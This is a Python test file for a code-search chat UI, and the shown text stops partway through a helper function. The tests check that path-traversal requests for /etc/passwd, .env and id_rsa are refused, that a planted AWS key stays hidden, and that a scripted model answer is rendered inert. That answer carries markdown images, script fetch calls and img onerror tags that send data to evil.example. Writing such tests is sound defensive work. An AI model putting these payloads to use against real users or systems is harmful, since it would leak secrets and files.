"""The web chat without a browser: handlers, safe rendering, source-panel security, the LLM endpoint
as server configuration, the question limit, feedback and stats, the serve command's bind/auth
rules, and a live server under 20 parallel API questions (load test)."""

from __future__ import annotations

import contextlib
import inspect
import io
import json
import os
import re
import shutil
import socket
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request
import uuid
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from types import SimpleNamespace

import pytest
from conftest import Listener

from repo_rag import Repository, load_config
from repo_rag.cli import CliError
from repo_rag.feedback import FeedbackStore

pytest.importorskip("gradio")

from repo_rag.ui.app import ChatApp, build_app, format_answer, launch_kwargs, link_citations
from repo_rag.ui.cli import auth_from_env, check_exposure, choose_host, is_loopback

ROOT = Path(__file__).resolve().parents[1]
FIXTURE = ROOT / "tests" / "fixtures" / "polyglot"
OUT = ROOT / "test-output"
AUTH = ("reviewer", "s3cret-Pa55")
LEAK_TAGS = re.compile(r"<\s*(img|iframe|script|style|link|object|embed|video|audio|source|frame|base|meta)\b", re.I)


# -- helpers: a scripted OpenAI-compatible server and a listener that must stay silent --------------------------
class FakeChat:
    """A local OpenAI-compatible endpoint that streams a scripted answer, one word per chunk.

    ``script`` is the answer, or a function of the prompt text returning it; ``delay`` is the pause
    after each streamed word. ``requests`` records every chat request body.
    """

    def __init__(self, script: str | Callable[[str], str], delay: float = 0.0) -> None:
        self.script, self.delay, self.requests = script, delay, []
        fake = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args) -> None:
                pass

            def _json(self, payload: dict) -> None:
                body = json.dumps(payload).encode()
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def do_GET(self) -> None:
                self._json({"object": "list", "data": [{"id": "stub", "object": "model", "created": 0,
                                                         "owned_by": "test"}]})  # fmt: skip

            def do_POST(self) -> None:
                body = json.loads(self.rfile.read(int(self.headers.get("Content-Length") or 0)) or b"{}")
                fake.requests.append(body)
                prompt = "\n".join(str(m.get("content", "")) for m in body.get("messages", []))
                text = fake.script(prompt) if callable(fake.script) else fake.script
                if not body.get("stream"):
                    self._json(
                        {
                            "id": "c",
                            "object": "chat.completion",
                            "created": 0,
                            "model": "stub",
                            "choices": [
                                {"index": 0, "message": {"role": "assistant", "content": text}, "finish_reason": "stop"}
                            ],
                        }
                    )
                    return
                self.send_response(200)
                self.send_header("Content-Type", "text/event-stream")
                self.end_headers()
                for word in re.findall(r"\s*\S+", text):
                    chunk = {
                        "id": "c",
                        "object": "chat.completion.chunk",
                        "created": 0,
                        "model": "stub",
                        "choices": [{"index": 0, "delta": {"content": word}, "finish_reason": None}],
                    }
                    self.wfile.write(f"data: {json.dumps(chunk)}\n\n".encode())
                    self.wfile.flush()
                    time.sleep(fake.delay)
                self.wfile.write(b"data: [DONE]\n\n")

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}/v1"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def cited_label(prompt: str, prefer: str = "") -> str:
    """The first ``### path:start-end`` label of the code blocks for the question (not the example);
    one starting with ``prefer`` if there is one. A scripted model that cites it is verified."""
    blocks = re.findall(r"<<<DATA \w+>>>\n(.*?)<<<END DATA", prompt, re.S)
    labels = re.findall(r"^### (\S+:\d+-\d+)", blocks[-1], re.M) if blocks else []
    preferred = [label for label in labels if prefer and label.startswith(prefer)]
    return (preferred or labels or ["nothing:1-1"])[0]


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def call_hidden(base: str, fn_index: int, data: list, http=None, timeout: float = 60) -> dict:
    """Call a page event the way the browser does (queue join + event stream); the last message."""
    import httpx

    client = http or httpx.Client(timeout=timeout)
    session = uuid.uuid4().hex
    body = {"data": data, "fn_index": fn_index, "session_hash": session, "event_data": None, "trigger_id": None}
    r = client.post(f"{base}/gradio_api/queue/join", json=body)
    if r.status_code != 200:
        return {"msg": "refused", "status": r.status_code, "text": r.text}
    last: dict = {}
    with client.stream("GET", f"{base}/gradio_api/queue/data", params={"session_hash": session}) as events:
        for line in events.iter_lines():
            if not line.startswith("data:"):
                continue
            last = json.loads(line[5:])
            if last.get("msg") in ("process_completed", "unexpected_error"):
                break
    return last


def call_by_name(base: str, api_name: str, data: list, http) -> str:
    """Call an event through Gradio's by-name HTTP route; its first output (or the error event)."""
    r = http.post(f"{base}/gradio_api/call/{api_name}", json={"data": data})
    if r.status_code != 200:
        return f"HTTP {r.status_code}"
    events = http.get(f"{base}/gradio_api/call/{api_name}/{r.json()['event_id']}").text
    m = re.search(r"^event: complete\ndata: (.*)$", events, re.M)
    return json.loads(m.group(1))[0] if m else events


def message_text(message: dict) -> str:
    """The text of a chat message as the API returns it (a string, or a list of typed parts)."""
    content = message["content"]
    return content if isinstance(content, str) else "".join(p.get("text", "") for p in content)


def page_config(base: str, http=None) -> dict:
    import httpx

    return (http or httpx).get(f"{base}/config", timeout=30).json()


def dependency_of(config: dict, elem_id: str, fn_name: str = "") -> tuple[int, list[dict]]:
    """(fn_index, input components) of the page event whose inputs include component ``elem_id``."""
    comps = {c["id"]: c for c in config["components"]}
    for i, dep in enumerate(config["dependencies"]):
        inputs = [comps[c] for c in dep["inputs"]]
        if any(c.get("props", {}).get("elem_id") == elem_id for c in inputs):
            return dep.get("id", i), inputs
    raise AssertionError(f"no page event takes #{elem_id}")


# -- fixtures ---------------------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def index_dir(tmp_path_factory) -> Path:
    d = tmp_path_factory.mktemp("ui-index")
    Repository(FIXTURE, index_dir=d).index()
    return d


@pytest.fixture(scope="module")
def repo(index_dir) -> Repository:
    r = Repository(FIXTURE, load_config(FIXTURE, overrides={"llm": {"backend": "none"}}), index_dir=index_dir)
    yield r
    r.close()


def openai_repo(index_dir: Path, base_url: str) -> Repository:
    """The fixture whose configured LLM is the OpenAI-compatible server at ``base_url``."""
    cfg = load_config(FIXTURE, overrides={"llm": {"backend": "openai", "base_url": base_url, "model": "stub",
                                                  "max_retries": 0, "timeout_s": 20}})  # fmt: skip
    return Repository(FIXTURE, cfg, index_dir=index_dir)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Repository:
    """A fixture copy with a secret file, a symlink leading out of the repository, an outside file,
    a docstring that tries to make the browser fetch a remote image, and a settings file with a key."""
    base = tmp_path_factory.mktemp("hostile")
    outside = base / "outside.txt"
    outside.write_text("TOP-SECRET-OUTSIDE\n")
    root = base / "repo"
    shutil.copytree(FIXTURE, root, ignore=shutil.ignore_patterns(".repo-rag"))
    (root / ".env").write_text("API_KEY=TOP-SECRET-ENV\n")
    (root / "id_rsa").write_text("-----BEGIN TOP-SECRET KEY-----\n")
    (root / "bookstore" / "link_out.py").symlink_to(outside)
    (root / "etc_link").symlink_to("/etc")
    (root / "bookstore" / "shipping.py").write_text(
        "def shipping_quote(weight):\n"
        '    """Shipping quote ![track](http://evil.example/leak?q=quote) <img src="http://evil.example/i.png">"""\n'
        "    return weight * 2\n"
    )
    (root / "settings.py").write_text(f'DEBUG = False\nAWS_ACCESS_KEY_ID = "{CANARY}"\n')
    cfg = load_config(root, overrides={"embed": {"enabled": False}, "llm": {"backend": "none"}})
    r = Repository(root, cfg, index_dir=base / "index")
    r.index()
    yield r
    r.close()


CANARY = "AKIA" + "QX7Z2MBKLP4WJ3TE"


@pytest.fixture()
def app(repo, hostile, tmp_path) -> ChatApp:
    return ChatApp([repo, hostile], FeedbackStore(tmp_path / "feedback.sqlite"))


def _payload(repo_key: str, path: str, start: int = 1, end: int = 1) -> str:
    return json.dumps({"repo": repo_key, "path": path, "start": start, "end": end})


# -- source panel ----------------------------------------------------------------------------------------------
def test_source_panel_shows_cited_lines_with_real_line_numbers(app):
    html = app.show_source(_payload("polyglot", "bookstore/auth.py", 39, 49))
    assert 'id="source-view"' in html and "bookstore/auth.py" in html
    assert '<tr data-line="39" class="hl"><td class="ln">39</td>' in html
    row39 = html.split('<tr data-line="39"')[1].split("</tr>")[0]
    assert "PasswordValidator" in row39 and 'class="k"' in row39  # pygments: 'class' is a keyword span
    assert '<tr data-line="49" class="hl">' in html
    assert '<tr data-line="36"><td class="ln">36</td>' in html  # context above, not highlighted
    assert '<tr data-line="50">' in html and 'data-line="60"' not in html
    assert "lines 39-49" in html and "python" in html


def test_source_panel_highlights_other_languages(app):
    html = app.show_source(_payload("polyglot", "go/store/book.go", 18, 24))
    assert '<tr data-line="18" class="hl">' in html and "Validate" in html and "go" in html


def test_source_panel_redacts_secrets_and_escapes_hostile_text(app):
    html = app.show_source(_payload("repo", "settings.py", 1, 2))
    assert 'id="source-view"' in html and CANARY not in html and "REDACTED" in html
    html = app.show_source(_payload("repo", "bookstore/shipping.py", 1, 3))
    assert 'id="source-view"' in html and "evil.example" in html  # shown as text ...
    assert not LEAK_TAGS.search(html)  # ... never as a tag


@pytest.mark.parametrize(
    "path",
    [
        "../../etc/passwd",
        "../../../../../../etc/passwd",
        "/etc/passwd",
        "bookstore/../../outside.txt",
        "bookstore/link_out.py",  # symlink to a file outside the repository
        "etc_link/passwd",  # symlinked directory leading out
        ".env",  # secret: never indexed, never shown
        "id_rsa",
        "bookstore/auth.py\x00.png",
        "",
        "bookstore/does_not_exist.py",
    ],
)
def test_source_panel_refuses_paths_outside_the_index(app, hostile, path):
    html = app.show_source(_payload("repo", path, 1, 5))
    assert "Refused" in html and 'id="source-view"' not in html
    assert "TOP-SECRET" not in html and "root:" not in html


def test_source_panel_refuses_absolute_path_even_of_an_indexed_file(app, hostile):
    assert 'id="source-view"' in app.show_source(_payload("repo", "bookstore/auth.py", 1, 3))
    for path in (
        str(hostile.root / "bookstore" / "auth.py"),
        "C:\\repo\\bookstore\\auth.py",
        "bookstore/../bookstore/auth.py",
    ):
        html = app.show_source(_payload("repo", path, 1, 3))
        assert "Refused" in html and "not a repository-relative path" in html


def test_source_panel_refuses_unknown_repository_and_garbage(app):
    assert "Refused: unknown repository" in app.show_source(_payload("nope", "bookstore/auth.py"))
    for garbage in ("not json", "[1, 2]", json.dumps({"repo": "polyglot", "path": "x", "start": "a"}), ""):
        assert "Refused" in app.show_source(garbage)


# -- answers in the chat ----------------------------------------------------------------------------------------
def _respond(app: ChatApp, question: str, **kw) -> list[tuple]:
    settings = {"repo_key": "polyglot", "k": 6, "backend": "none", "retrieval_only": True}
    settings.update(kw)
    return list(app.respond(question, [], settings["repo_key"], settings["k"], settings["backend"],
                            settings["retrieval_only"], {}))  # fmt: skip


def graph_nodes(graph_html: str) -> dict[str, str]:
    """Node id -> role of every node drawn in a graph picture."""
    return dict(re.findall(r"<title>([^<]+) \((cited|caller|callee|container)\)</title>", graph_html))


def test_respond_links_citations_and_draws_the_graph_of_the_cited_code(app):
    steps = _respond(app, "Where is the PasswordValidator class?")
    assert "Searching" in steps[0][0][-1]["content"]
    history, box, answers, graph_html, _status = steps[-1]
    assert [m["role"] for m in history] == ["user", "assistant"]
    assert box == ""
    final = history[1]["content"]
    assert 'class="cite"' in final
    assert "#cite?repo=polyglot&amp;path=bookstore%2Fauth.py&amp;start=39&amp;end=49" in final  # PasswordValidator
    assert "Sources (6)" in final
    meta = answers["1"]
    assert meta["question"] == "Where is the PasswordValidator class?"
    # first: PasswordValidator or a member inside it (lines 39-49); the ranker v4 puts its 2-line
    # is_valid a hair above the class itself (0.844 vs 0.829), v3 had the class first
    assert meta["citations"][0] in ("bookstore/auth.py:39-49", "bookstore/auth.py:48-49")
    # The picture is the neighbourhood of this answer's citations (the grounded part's five
    # locations): each cited symbol is drawn as cited, with its real callers and callees. The six
    # candidates are fixed by the fixture and the shipped models (code embedder + ranker v5); which
    # five are listed is not pinned below the top two, because near-tied dense scores may swap
    # under int8 ONNX (activation scales depend on the batch). Ranker v5 (with the "uses" channel:
    # a subclass uses its base) lists the subclass MinimumLengthValidator where v4 had validate_password;
    # ranker v6 lists validate_password again and, at 4-5, two near-tied views (delete, create_book).
    candidates = {
        "bookstore/auth.py:39-49": "auth.py::PasswordValidator",
        "bookstore/auth.py:48-49": "auth.py::PasswordValidator.is_valid",
        "bookstore/auth.py:52-61": "auth.py::MinimumLengthValidator",
        "bookstore/auth.py:64-67": "auth.py::validate_password",
        "bookstore/views.py:39-54": "views.py::AdminBookView",
        "bookstore/views.py:42-44": "views.py::AdminBookView.__init__",
        "bookstore/views.py:52-54": "views.py::AdminBookView.change_password",
        "bookstore/views.py:46-50": "views.py::AdminBookView.delete",
        "bookstore/views.py:18-23": "views.py::create_book",
    }  # fmt: skip
    assert len(meta["citations"]) == 5 and set(meta["citations"]) <= set(candidates), meta["citations"]
    assert {"bookstore/auth.py:39-49", "bookstore/auth.py:48-49"} <= set(meta["citations"])
    nodes = graph_nodes(graph_html)
    for location in meta["citations"]:
        assert nodes.get("bookstore/" + candidates[location]) == "cited", (location, nodes)
    # validate calls the cited is_valid (a caller) and is called by validate_password: a node keeps the
    # role it is reached by first, in citation order, so it is a callee when validate_password is cited first
    cites = meta["citations"]
    validate_password_first = "bookstore/auth.py:64-67" in cites and (
        cites.index("bookstore/auth.py:64-67") < cites.index("bookstore/auth.py:48-49"))
    assert nodes.get("bookstore/auth.py::PasswordValidator.validate") == (
        "callee" if validate_password_first else "caller")
    if "bookstore/views.py:52-54" in meta["citations"]:
        assert nodes.get("bookstore/auth.py::hash_password") == "callee"  # called by AdminBookView.change_password


def test_graph_picture_shows_the_real_callers_and_callees(app):
    """hash_password (auth.py:16-20) is called by check_password and AdminBookView.change_password
    and calls make_salt: the picture draws exactly that, with arrows, each node linking to its lines."""
    graph_html = app.graph_html(app.served_repo("polyglot"), [("bookstore/auth.py", 16, 20, "hash_password")])
    assert graph_nodes(graph_html) == {
        "bookstore/auth.py::hash_password": "cited",
        "bookstore/auth.py::check_password": "caller",
        "bookstore/views.py::AdminBookView.change_password": "caller",
        "bookstore/auth.py::make_salt": "callee",
    }
    assert "1 cited symbol · 2 callers · 1 callee" in graph_html
    assert len(re.findall(r'<path class="edge calls" d="M [\d. ]+C', graph_html)) == 3
    for role, path, start, end in (
        ("caller", "bookstore/auth.py", 23, 36),
        ("caller", "bookstore/views.py", 52, 54),
        ("callee", "bookstore/auth.py", 11, 13),
        ("cited", "bookstore/auth.py", 16, 20),
    ):
        assert re.search(
            rf'class="gnode {role} cite" data-repo="polyglot" data-path="{path}" data-start="{start}" data-end="{end}"',
            graph_html,
        ), (role, path)
    # left to right: callers, the cited function, its callee
    xs = [(role, float(x)) for role, x in re.findall(r'class="gnode (\w+) cite".*?<rect x="([\d.]+)"', graph_html)]
    left = {role: min(x for r, x in xs if r == role) for role, _ in xs}
    right = {role: max(x for r, x in xs if r == role) for role, _ in xs}
    assert right["caller"] < left["cited"] and right["cited"] < left["callee"]


def test_answer_tokens_arrive_over_several_updates(index_dir, tmp_path):
    """The answer is streamed: its words reach the page over several updates, each extending the last."""

    def script(prompt: str) -> str:
        return (f"Passwords are hashed as {cited_label(prompt)} shows. PBKDF2 does the work. "
                "A fresh salt comes from make_salt. The parts are joined with dollar signs.")

    fake = FakeChat(script, delay=0.15)
    try:
        app = ChatApp([openai_repo(index_dir, fake.url)], FeedbackStore(tmp_path / "fb.sqlite"))
        steps = _respond(app, "How are passwords hashed?", backend="openai", retrieval_only=False)
    finally:
        fake.close()
    partial = [s[0][-1]["content"] for s in steps if "▌" in s[0][-1]["content"]]
    words = [len(re.sub(r"<[^>]+>", " ", p).split()) for p in partial]
    assert len(partial) >= 4, f"answer tokens arrived in {len(partial)} update(s)"
    assert words == sorted(words) and words[0] < words[-1], words
    assert "make_salt" not in partial[1] and "PBKDF2" in steps[-1][0][-1]["content"]
    final = steps[-1][0][-1]["content"]
    assert "▌" not in final and "1 verified citation" in final and 'class="cite"' in final
    assert len(fake.requests) == 1 and fake.requests[0]["stream"] is True


def test_respond_ignores_empty_question(app):
    steps = _respond(app, "   ")
    assert steps[-1][0] == []


def test_too_long_question_is_refused_with_a_message_in_the_chat(app, repo):
    limit = repo.config.search.max_query_chars
    steps = _respond(app, "where is " + "x" * limit)
    assert len(steps) == 1
    history, box, answers, _graph, _status = steps[0]
    assert [m["role"] for m in history] == ["user", "assistant"]
    reply = history[1]["content"]
    assert "Not asked" in reply and f"{limit:,}" in reply and "characters long" in reply
    assert "Traceback" not in reply and answers == {}
    assert len(history[0]["content"]) < 1000, "the chat shows a preview, not the whole paste"
    assert not isinstance(box, str), "the question stays in the box to be shortened"
    at_limit = _respond(app, "x" * limit)[-1][0][-1]  # at the limit: answered
    assert at_limit["role"] == "assistant" and "Not asked" not in at_limit["content"]


URL_ATTRS = {"src", "srcset", "href", "action", "formaction", "poster", "background", "data", "style", "xlink:href",
             "ping", "lowsrc", "dynsrc", "codebase", "cite"}  # fmt: skip


def assert_cannot_reach_out(html: str) -> None:
    """No tag that loads anything, and no attribute of a real tag pointing anywhere but a citation."""
    assert not LEAK_TAGS.search(html), html
    for _tag, attrs in re.findall(r"<([a-zA-Z][\w:-]*)((?:\s+[^>]*)?)>", html):
        for name, value in re.findall(r"""([\w:-]+)\s*=\s*("[^"]*"|'[^']*'|[^\s>]+)""", attrs):
            if name.lower() in URL_ATTRS:
                assert name.lower() == "href" and value.strip("\"'").startswith("#cite?"), (name, value)


HOSTILE_ANSWER = (
    "See bookstore/auth.py:16-20.\n\n![track](http://evil.example/leak?q=secret) and ![r][ref]\n\n"
    "[ref]: http://evil.example/ref.png\n\n"
    '<img src="http://evil.example/i.png"> <iframe src="http://evil.example/"></iframe> '
    "<script>fetch('http://evil.example/')</script> <style>body{background:url(http://evil.example/b)}</style>\n\n"
    "[click me](http://evil.example/phish) <http://evil.example/auto> www.evil.example "
    '<a href="http://evil.example/x">x</a> <svg><image href="http://evil.example/s"/></svg>\n\n'
    "* `__init__` and __init__ keep their underscores\n\n"
    '```html\n<img src="http://evil.example/code.png">\n```\n'
)


def test_model_text_is_rendered_without_anything_that_reaches_out():
    from repo_rag.verify import Citation

    ok = Citation("bookstore/auth.py", 16, 20, "hash_password", True, "verified", "bookstore/auth.py:16-20")
    out = link_citations(HOSTILE_ANSWER, [ok], "polyglot")
    assert_cannot_reach_out(out)
    assert out.count('class="cite"') == 1 and 'data-path="bookstore/auth.py"' in out
    text = re.sub(r"<[^>]+>", "", out)
    assert "![track](http://evil.example/leak?q=secret)" in text.replace("&amp;", "&"), "images stay as text"
    assert "[click me](http://evil.example/phish)" in text, "links stay as text"
    assert "&lt;img src=" in out and "&lt;script&gt;" in out, "raw HTML is shown, escaped"
    assert "__init__ and __init__ keep" in text and "<strong>init" not in out
    assert '<pre><code class="language-html">&lt;img src=&quot;http://evil.example/code.png&quot;&gt;' in out


def test_model_html_is_escaped_and_unverified_citations_flagged():
    from repo_rag.verify import Citation

    ok = Citation("bookstore/auth.py", 64, 67, "validate_password", True, "verified", "bookstore/auth.py:64-67")
    bad = Citation("bookstore/nope.py", 1, 2, "", False, "file is not indexed", "bookstore/nope.py:1-2")
    text = "See bookstore/auth.py:64-67 and bookstore/nope.py:1-2. <script>alert(1)</script><img src=x onerror=y>"
    out = link_citations(text, [ok, bad], "polyglot")
    assert "<script>" not in out and "&lt;script&gt;" in out and "<img" not in out
    assert out.count('class="cite"') == 1 and 'data-path="bookstore/auth.py"' in out
    assert '<span class="cite-bad"' in out and "file is not indexed" in out

    # Code stays code (its HTML shown as text); a citation alone in a code span is a link; an
    # unclosed fence cannot swallow what follows the answer (the answer is rendered on its own).
    code = "Use `bookstore/auth.py:64-67`.\n```python\nif a < b:  # bookstore/auth.py:64-67\n```\n```\nx = '<b>'"
    out = link_citations(code, [ok], "polyglot")
    assert out.startswith('<p>Use <a class="cite"')
    assert "if a &lt; b:  # bookstore/auth.py:64-67\n</code></pre>" in out, "no link inside a fenced block"
    assert out.endswith("<pre><code>x = '&lt;b&gt;'</code></pre>")
    dunder = Citation("bookstore/views.py", 42, 44, "", True, "verified", "bookstore/views.py:42-44 (X.__init__)")
    assert "(X.__init__)" in link_citations("bookstore/views.py:42-44 (X.__init__)", [dunder], "p")


def test_format_answer_with_an_llm_answer(repo):
    """A real pipeline run with a scripted LlamaIndex LLM: verified links, flagged invention."""
    from llama_index.core.llms import CompletionResponse, CustomLLM, LLMMetadata
    from llama_index.core.llms.callbacks import llm_completion_callback

    question = "where is password validation?"
    top = repo.search(question, k=6).hits[0]
    script = (f"It is done in {top.location} ({top.symbol}). The rules end at bookstore/auth.py:900-909. "
              "Hashing lives in `bookstore/crypto.py`.")

    class Scripted(CustomLLM):
        @property
        def metadata(self) -> LLMMetadata:
            return LLMMetadata(context_window=4096, num_output=100, model_name="scripted")

        @llm_completion_callback()
        def complete(self, prompt, formatted=False, **kw):
            return CompletionResponse(text=script)

        @llm_completion_callback()
        def stream_complete(self, prompt, formatted=False, **kw):
            def gen():
                acc = ""
                for word in script.split(" "):
                    acc += word + " "
                    yield CompletionResponse(text=acc, delta=word + " ")

            return gen()

    answer = repo.ask(question, llm=Scripted(), k=6)
    assert [c.verified for c in answer.model_citations] == [True, False]
    assert all(c.verified for c in answer.citations[: len(answer.citations) - 2])  # the grounded part's
    html = format_answer(answer, "polyglot")
    href = f"path={top.path.replace('/', '%2F')}&amp;start={top.start_line}&amp;end={top.end_line}"
    assert html.count('class="cite"') >= 2 and href in html  # in the text and in the sources list
    assert '<span class="cite-bad"' in html and "bookstore/auth.py:900-909" in html  # flagged: past the end
    assert "1 verified citation" in html and "1 unverified" in html
    # the sentence naming a file that does not exist is gone, and the chat says so
    assert "crypto.py" not in answer.model_text and 'class="answer-check warn small removed"' in html
    assert "removed 1 sentence(s)" in html and "<code>bookstore/crypto.py</code>" in html
    assert_cannot_reach_out(html)


def test_hostile_model_answer_and_repository_text_reach_the_chat_inert(app, index_dir, hostile, tmp_path):
    """Through the whole pipeline: a model answer and a repository docstring that try to make the
    browser fetch a remote image end up as text; the repository's AWS key is nowhere."""
    fake = FakeChat(HOSTILE_ANSWER)
    try:
        llm_app = ChatApp([openai_repo(index_dir, fake.url)], FeedbackStore(tmp_path / "fb.sqlite"))
        steps = _respond(llm_app, "How are passwords hashed?", backend="openai", retrieval_only=False)
    finally:
        fake.close()
    assert fake.requests, "the configured model answered"
    for step in steps:
        assert_cannot_reach_out(step[0][-1]["content"])
    assert "evil.example/leak" in steps[-1][0][-1]["content"]
    steps = _respond(app, "shipping quote weight and AWS access key settings", repo_key="repo")
    final = steps[-1][0][-1]["content"]
    assert "bookstore/shipping.py" in final and "evil.example" in final  # the docstring, as text
    assert_cannot_reach_out(final)
    assert CANARY not in json.dumps([s[0] for s in steps])


# -- the LLM endpoint is server configuration -------------------------------------------------------------------
@pytest.fixture(scope="module")
def live(index_dir, tmp_path_factory):
    """The page in this process, its LLM configured as a local scripted server; yields (url, fake)."""
    fake = FakeChat(lambda prompt: f"Hashing happens in {cited_label(prompt)}.")
    feedback = FeedbackStore(tmp_path_factory.mktemp("live") / "feedback.sqlite")
    _app, demo = build_app([openai_repo(index_dir, fake.url)], feedback)
    port = free_port()
    demo.launch(server_name="127.0.0.1", server_port=port, prevent_thread_lock=True, quiet=True, show_error=False,
                ssr_mode=False, **launch_kwargs())  # fmt: skip
    try:
        yield SimpleNamespace(url=f"http://127.0.0.1:{port}", fake=fake)
    finally:
        demo.close()
        fake.close()


def test_llm_endpoint_cannot_be_chosen_by_the_client(live):
    """A hand-made call of the hidden chat handler naming another endpoint reaches only the configured one."""
    import httpx

    params = inspect.signature(ChatApp.respond).parameters
    assert "base_url" not in params and "model" not in params
    foreign = Listener()
    try:
        config = page_config(live.url)
        assert not any(c.get("props", {}).get("elem_id") in ("base-url", "model") for c in config["components"])
        fn_index, inputs = dependency_of(config, "retrieval-only")
        values = {"question": "How are passwords hashed?", "chat": [], "repo-select": "polyglot", "top-k": 4,
                  "backend": "openai", "retrieval-only": False}  # fmt: skip
        # Every input the page does not know about gets the foreign endpoint, and so do two extra values.
        data = [values.get(c.get("props", {}).get("elem_id"), None if c["type"] == "state" else foreign.url + "/v1")
                for c in inputs]  # fmt: skip
        before = len(live.fake.requests)
        finals = []
        for payload in (data, [*data, foreign.url + "/v1", "evil-model"]):
            result = call_hidden(live.url, fn_index, payload)  # the way the page calls it
            if result.get("msg") == "process_completed" and result.get("success"):
                finals.append(message_text(result["output"]["data"][0][-1]))
            with httpx.Client(timeout=60) as http:  # by its (hidden) name
                call_by_name(live.url, "respond", payload, http)
        time.sleep(0.5)
    finally:
        foreign.close()
    assert foreign.received == [], "the chat handler contacted an endpoint named by the client"
    assert len(finals) == 2, "both calls were answered (extra values are ignored)"
    for final in finals:
        assert "Hashing happens in" in final and "1 verified citation" in final, "answered by the configured model"
    assert len(live.fake.requests) > before and all(r["model"] == "stub" for r in live.fake.requests)


def test_page_theme_and_html_name_no_other_host(live):
    """No Google Fonts or CDN: the theme's fonts are system fonts and the page's HTML/CSS load nothing remote."""
    import httpx
    from repo_rag.ui.app import SYSTEM_FONTS, SYSTEM_MONO_FONTS, theme

    page = httpx.get(live.url + "/", timeout=30).text
    css = httpx.get(live.url + "/theme.css", timeout=30).text
    for text in (page, css):
        assert "fonts.googleapis" not in text and "fonts.gstatic" not in text
        remote = re.findall(r"""(?:src|href)\s*=\s*["'](?:https?:)?//([^/"']+)|url\(\s*["']?(?:https?:)?//([^/"')]+)""",
                            text)  # fmt: skip
        assert not [h for pair in remote for h in pair if h and not h.startswith(("127.0.0.1", "localhost"))]
    assert theme().font == ", ".join(SYSTEM_FONTS)  # plain names: no GoogleFont, no LocalFont files
    assert theme().font_mono == ", ".join(SYSTEM_MONO_FONTS)


# -- feedback and stats ----------------------------------------------------------------------------------------------
def test_like_records_feedback_and_stats_reports_acceptance(app, tmp_path):
    steps = _respond(app, "How are passwords hashed?")
    answers = steps[-1][2]
    note = app.on_like(answers, SimpleNamespace(index=1, liked=True, value=None))
    assert 'data-vote="1"' in note
    [rec] = app.feedback.all()
    assert rec.vote == 1 and rec.question == "How are passwords hashed?"
    assert rec.repo == str(FIXTURE.resolve()) and rec.citations and len(rec.answer_hash) == 64
    app.on_like(answers, SimpleNamespace(index=1, liked=False, value=None))
    assert [r.vote for r in app.feedback.all()] == [-1], "a second vote replaces the first"
    app.on_like(answers, SimpleNamespace(index=1, liked=None, value=None))
    assert app.feedback.all() == [], "un-voting withdraws the vote"
    assert "answers only" in app.on_like(answers, SimpleNamespace(index=0, liked=True, value=None))

    db = tmp_path / "stats.sqlite"
    store = FeedbackStore(db)
    day1 = datetime(2026, 3, 1, 12, tzinfo=UTC)
    for i, vote in enumerate([1, 1, 1, -1]):
        store.record(f"a{i}", vote, repo="/r", question="q", answer_text="t", now=day1)
    for i, vote in enumerate([1, -1]):
        store.record(f"b{i}", vote, repo="/r", question="q", answer_text="t", now=day1 + timedelta(days=1))
    from repo_rag.cli import main

    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        assert main(["stats", "--db", str(db), "--json"]) == 0
    data = json.loads(out.getvalue())
    assert [(d["day"], d["up"], d["down"], d["acceptance"]) for d in data["days"]] == [
        ("2026-03-01", 3, 1, 0.75),
        ("2026-03-02", 1, 1, 0.5),
    ]
    assert data["total"]["acceptance"] == pytest.approx(4 / 6)
    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        assert main(["stats", "--db", str(db)]) == 0
    table = out.getvalue()
    assert "2026-03-01" in table and "75.0%" in table and "50.0%" in table and "66.7%" in table


# -- index status and re-index ------------------------------------------------------------------------------
def test_reindex_reports_progress_and_status(app, hostile):
    statuses = list(app.reindex("repo"))
    assert statuses, "re-index yields status updates"
    assert "re-indexed in" in statuses[-1] and "files" in statuses[-1]
    assert app.index_status("repo").startswith('<div class="status ok"')


def test_examples_ask_about_the_most_called_function(app):
    examples = app.examples("polyglot")
    assert len(examples) == 3 and examples[-1].startswith("What calls ") and examples[-1].endswith("?")


# -- serve: bind address and auth -------------------------------------------------------------------------------
def test_bind_defaults_and_non_loopback_refusal():
    assert is_loopback("127.0.0.1") and is_loopback("localhost") and is_loopback("::1")
    assert not is_loopback("0.0.0.0") and not is_loopback("192.168.1.10")
    assert choose_host(None, "127.0.0.1") == "127.0.0.1"
    with pytest.raises(CliError, match=r"refusing to bind to 0\.0\.0\.0.*--host 0\.0\.0\.0"):
        choose_host(None, "0.0.0.0")
    assert choose_host("0.0.0.0", "127.0.0.1") == "0.0.0.0"  # explicit on the command line
    assert auth_from_env({}) is None
    assert auth_from_env({"REPO_RAG_AUTH_USER": "u", "REPO_RAG_AUTH_PASSWORD": "p"}) == ("u", "p")
    with pytest.raises(CliError, match="both"):
        auth_from_env({"REPO_RAG_AUTH_USER": "u"})


def test_non_loopback_bind_needs_auth_or_insecure(capsys):
    check_exposure("127.0.0.1", None, False)
    check_exposure("localhost", None, False)
    check_exposure("0.0.0.0", ("u", "p"), False)
    for host in ("0.0.0.0", "192.168.1.10", "::"):
        with pytest.raises(CliError, match=rf"refusing to serve on {re.escape(host)} without authentication.*"
                                           r"REPO_RAG_AUTH_USER.*--insecure"):  # fmt: skip
            check_exposure(host, None, False)
    check_exposure("0.0.0.0", None, True)
    assert "without authentication (--insecure)" in capsys.readouterr().err


def _core_with_serve(monkeypatch):
    """The core CLI with `serve` plugged in, and Gradio's launch replaced by a recorder."""
    import repo_rag.ui.app as ui_app

    import repo_rag.cli as core

    class EntryPoint:
        name = "serve"

        @staticmethod
        def load():
            from repo_rag.ui.cli import add_parser

            return add_parser

    launched: list[dict] = []

    def fake_build_app(repos, feedback, **kw):
